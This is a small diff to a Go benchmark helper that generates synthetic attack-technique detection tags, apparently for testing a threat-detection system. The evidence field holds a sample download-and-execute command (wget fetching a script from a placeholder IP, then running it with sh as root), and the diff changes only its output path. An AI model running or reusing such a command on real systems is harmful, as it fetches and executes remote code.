@@ -159,7 +159,7 @@ func benchmarkTags(n int) []ttp.Tag {
 			tag.Confidence = 0.3 + 0.7*random.Float64()
 			tag.RuleID = fmt.Sprintf("R%04d", technique)
 			tag.Evidence = json.RawMessage(fmt.Sprintf(
-				`{"command":"wget -q http://203.0.113.%d/%08x.sh -O /tmp/.x && sh /tmp/.x","matched":"wget","user":"root","pid":%d,"tty":true}`,
+				`{"command":"wget -q http://203.0.113.%d/%08x.sh -O .x && sh .x","matched":"wget","user":"root","pid":%d,"tty":true}`,
 				random.IntN(256), random.Uint32(), random.IntN(1<<15)))
 			tag.ObservedAt = at(random.IntN(30 * 24 * 3600 * 1e6))
 		})
